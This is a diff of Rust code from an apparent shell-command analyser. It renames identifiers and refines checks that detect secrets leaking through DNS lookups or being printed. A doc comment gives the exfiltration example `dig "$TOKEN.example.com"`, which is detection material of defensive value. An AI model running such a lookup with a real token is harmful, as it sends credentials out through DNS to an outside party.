@@ -3,31 +3,33 @@
 use std::rc::Rc;
 
 use super::run::program_name;
-use super::shell::{Assigned, Assignment, ParameterOp, Part, Redirect, RedirectOp, Simple};
+use super::shell::{
+    AssignedValue, Assignment, ParameterOp, Redirect, RedirectOp, Simple, WordPart,
+};
 use super::state::Value;
-use super::value::{Arg, HOLE, MAX_TEXT, Origin};
-use super::walk::Walk;
+use super::value::{Argument, MAX_TEXT, TextOrigin, UNKNOWN};
+use super::walk::ShellWalker;
 
 /// How many variables are kept.
 const MAX_VARIABLES: usize = 500;
 
-impl Walk<'_> {
+impl ShellWalker<'_> {
     /// Whether a secret is a part of a name that is looked up: `dig "$TOKEN.example.com"`.
-    pub(super) fn looks_up_a_secret(&self, simple: &Simple, argv: &[Arg]) -> bool {
+    pub(super) fn leaks_secret_by_dns(&self, simple: &Simple, argv: &[Argument]) -> bool {
         let resolves =
             argv.first().is_some_and(|arg| super::rules::is_resolver(&program_name(&arg.text)));
         resolves
             && simple.words.iter().flat_map(|word| &word.parts).any(|part| self.is_secret(part))
     }
 
-    fn is_secret(&self, part: &Part) -> bool {
+    fn is_secret(&self, part: &WordPart) -> bool {
         match part {
             // How long it is, and whether it is set, may be known.
-            Part::Parameter {
+            WordPart::Parameter {
                 op: ParameterOp::Length | ParameterOp::Alternative(_) | ParameterOp::Indirect,
                 ..
             } => false,
-            Part::Parameter { name, .. } => {
+            WordPart::Parameter { name, .. } => {
                 super::rules::is_secret_name(name) && !self.state.variables.contains_key(name)
             }
             _ => false,
@@ -35,12 +37,12 @@ impl Walk<'_> {
     }
 
     /// `echo $TOKEN`, with nothing that takes what it prints.
-    pub(super) fn shows_a_secret(&self, simple: &Simple, argv: &[Arg]) -> bool {
+    pub(super) fn prints_secret(&self, simple: &Simple, argv: &[Argument]) -> bool {
         let Some(program) = argv.first().map(|arg| arg.text.as_str()) else { return false };
         let prints = ["echo", "printf", "print"].contains(&program);
         let goes_elsewhere =
             |redirect: &Redirect| matches!(redirect.op, RedirectOp::Write | RedirectOp::Append);
-        let secret = |part: &Part| self.is_secret(part);
+        let secret = |part: &WordPart| self.is_secret(part);
         let here = |redirect: &Redirect| {
             redirect.op == RedirectOp::HereString && redirect.target.parts.iter().any(secret)
         };
@@ -49,24 +51,24 @@ impl Walk<'_> {
                 || program == "cat" && simple.redirects.iter().any(here))
     }
 
-    pub(super) fn assignment(&mut self, assignment: &Assignment, argv: &[Arg]) {
+    pub(super) fn assignment(&mut self, assignment: &Assignment, argv: &[Argument]) {
         let Assignment { name, append, index, value } = assignment;
         if let Some(index) = index {
-            self.text(index);
+            self.expand_to_text(index);
         }
         let mut fields = match value {
-            Assigned::Word(word) => vec![self.text(word)],
-            Assigned::Array(words) => {
-                let mut elements = self.arguments(words);
-                elements.iter_mut().for_each(without_index);
+            AssignedValue::Word(word) => vec![self.expand_to_text(word)],
+            AssignedValue::Array(words) => {
+                let mut elements = self.expand_words(words);
+                elements.iter_mut().for_each(strip_index);
                 elements
             }
         };
         // An entry of the allow list must name the assignment to allow it.
         let text = fields.first().map(|arg| arg.text.as_str()).unwrap_or_default();
-        let mut words = vec![Arg::known(format!("{name}={text}"))];
+        let mut words = vec![Argument::known(format!("{name}={text}"))];
         words.extend_from_slice(argv);
-        self.sets(&words, name, fields.first());
+        self.check_exported_variable(&words, name, fields.first());
         if *append || index.is_some() {
             let known = match self.state.variables.get(name) {
                 Some(Value::Known(all)) if all.len() == 1 => all.first().cloned(),
@@ -74,11 +76,11 @@ impl Walk<'_> {
                 _ => None,
             };
             let Some(old) = known else {
-                self.set_unknown(name, Origin::Written);
+                self.set_unknown(name, TextOrigin::Literal);
                 return;
             };
-            let mut old: Vec<Arg> = old.iter().map(Arg::known).collect();
-            if index.is_some() || matches!(value, Assigned::Array(_)) {
+            let mut old: Vec<Argument> = old.iter().map(Argument::known).collect();
+            if index.is_some() || matches!(value, AssignedValue::Array(_)) {
                 old.append(&mut fields);
             } else if let (Some(last), Some(more)) = (old.last_mut(), fields.first()) {
                 last.text.push_str(&more.text);
@@ -88,15 +90,15 @@ impl Walk<'_> {
             fields = old;
         }
         let origin = fields.iter().map(|field| field.origin).max().unwrap_or_default();
-        if fields.iter().any(Arg::is_hole) && origin != Origin::Written {
+        if fields.iter().any(Argument::is_unknown) && origin != TextOrigin::Literal {
             self.set_unknown(name, origin);
         } else {
             self.set(name, fields.into_iter().map(|field| field.text).collect());
         }
     }
 
-    pub(super) fn assign(&mut self, name: &str, value: Arg) {
-        if value.is_hole() && value.origin != Origin::Written {
+    pub(super) fn assign(&mut self, name: &str, value: Argument) {
+        if value.is_unknown() && value.origin != TextOrigin::Literal {
             self.set_unknown(name, value.origin);
         } else {
             self.set(name, vec![value.text]);
@@ -105,28 +107,28 @@ impl Walk<'_> {
 
     pub(super) fn set(&mut self, name: &str, fields: Vec<String>) {
         if self.state.variables.len() >= MAX_VARIABLES {
-            self.too_complicated();
+            self.report_too_complex();
             return;
         }
         let fields = match fields.iter().map(String::len).sum::<usize>() > MAX_TEXT {
-            true => vec![HOLE.to_string()],
+            true => vec![UNKNOWN.to_string()],
             false => fields,
         };
-        self.state.several |= fields.len() > 1;
+        self.state.may_vary |= fields.len() > 1;
         self.state.variables.insert(name.to_owned(), Value::Known(vec![Rc::from(fields)]));
     }
 
-    pub(super) fn set_unknown(&mut self, name: &str, origin: Origin) {
+    pub(super) fn set_unknown(&mut self, name: &str, origin: TextOrigin) {
         if self.state.variables.len() < MAX_VARIABLES {
             self.state.variables.insert(name.to_owned(), Value::Unknown(origin));
         } else {
-            self.too_complicated();
+            self.report_too_complex();
         }
     }
 }
 
 /// `[0]=rm` in an array: the element is what follows.
-fn without_index(element: &mut Arg) {
+fn strip_index(element: &mut Argument) {
     if let Some((_, value)) =
         element.text.split_once("]=").filter(|(index, _)| index.starts_with('['))
     {
@@ -135,7 +137,11 @@ fn without_index(element: &mut Arg) {
 }
 
 /// The values that `read`, `mapfile` and `readarray` give to variables, of a text that is known.
-pub(super) fn values_read(name: &str, args: &[Arg], text: &str) -> Vec<(String, Vec<String>)> {
+pub(super) fn read_builtin_values(
+    name: &str,
+    args: &[Argument],
+    text: &str,
+) -> Vec<(String, Vec<String>)> {
     let mut names = Vec::new();
     let mut array = name != "read";
     let mut rest = args.iter().map(|arg| arg.text.as_str());
